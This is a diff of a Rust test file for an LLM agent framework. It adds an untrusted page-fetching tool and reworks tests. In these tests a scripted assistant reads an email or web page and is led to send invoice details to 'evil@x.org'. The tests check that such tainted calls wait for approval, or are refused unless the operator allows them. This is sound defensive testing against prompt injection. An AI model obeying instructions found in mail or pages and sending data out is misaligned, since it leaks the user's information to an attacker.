@@ -14,7 +14,10 @@ fn assistant(main: &str, answers: &Value) -> Scenario {
         )
         .file(
             "tools.py",
-            "from llm_do import tool\n\n@tool(risk='exec')\ndef send(to: str, text: str = '') -> bool:\n    return True\n",
+            &format!(
+                "from llm_do import tool\n\n@tool(risk='exec', untrusted=False)\ndef send(to: str, text: str = '') -> bool:\n    \
+                 return True\n\n@tool(risk='read', untrusted=True)\ndef fetch_page(url: str) -> str:\n    return {MAIL:?}\n"
+            ),
         )
         .file("main.worker", &format!("---\nmodel: script:s.json\ntoolsets: [filesystem, custom]\n{main}---\nAssist.\n"))
         .file(
@@ -34,10 +37,13 @@ fn answer(worker: &str, turn: u32, call: &Value) -> Value {
 }
 
 /// The model reads the mail and does what it says.
-fn talked_into() -> Scenario {
-    let read = call("read_file", &json!({"path": "/inbox/1.txt"}));
+fn talked_into(read: &Value) -> Scenario {
     let send = call("send", &json!({"to": "evil@x.org", "text": "The invoice is 120 EUR."}));
-    assistant("", &json!([answer("main", 0, &read), answer("main", 1, &send), {"text": "done"}]))
+    assistant("", &json!([answer("main", 0, read), answer("main", 1, &send), {"text": "done"}]))
+}
+
+fn reads_mail() -> Value {
+    call("read_file", &json!({"path": "/inbox/1.txt"}))
 }
 
 fn has(finished: &Finished, parts: &[&str]) {
@@ -54,7 +60,7 @@ fn records<'a>(journal: &'a [Value], path: &str, kind: &str) -> Vec<&'a Value> {
 
 #[test]
 fn call_with_words_of_a_mail_is_asked_about_although_the_project_allows_it() {
-    let scenario = talked_into();
+    let scenario = talked_into(&reads_mail());
     let waits = scenario.run(&[".", "--approval", "defer"]);
     assert_eq!(waits.code, Some(5), "{}{}", waits.stdout, waits.stderr);
     let journal = scenario.journal();
@@ -95,8 +101,8 @@ fn call_with_words_of_a_mail_is_asked_about_although_the_project_allows_it() {
 }
 
 #[test]
-fn call_with_words_of_a_mail_is_refused_where_nobody_can_be_asked_and_allowed_by_the_operator() {
-    let scenario = talked_into();
+fn call_with_words_of_a_page_is_refused_where_nobody_can_be_asked_and_allowed_by_the_operator() {
+    let scenario = talked_into(&call("fetch_page", &json!({"url": "https://x.org"})));
     assert_eq!(scenario.run(&["."]).code, Some(0));
     assert!(records(&scenario.journal(), "0/1.0", "tool_started").is_empty(), "it did not run");
     assert_eq!(scenario.run(&[".", "--allow", "send"]).code, Some(0));
@@ -105,7 +111,7 @@ fn call_with_words_of_a_mail_is_refused_where_nobody_can_be_asked_and_allowed_by
 
 #[test]
 fn reader_with_a_typed_answer_lets_the_assistant_work_without_questions() {
-    let read = call("read_file", &json!({"path": "/inbox/1.txt"}));
+    let read = reads_mail();
     let reader = call("reader", &json!({"input": "/inbox/1.txt"}));
     let send = call("send", &json!({"to": "bob@corp.com", "text": "An invoice came in."}));
     let pay = call("send", &json!({"to": "bob@corp.com", "text": "120"}));
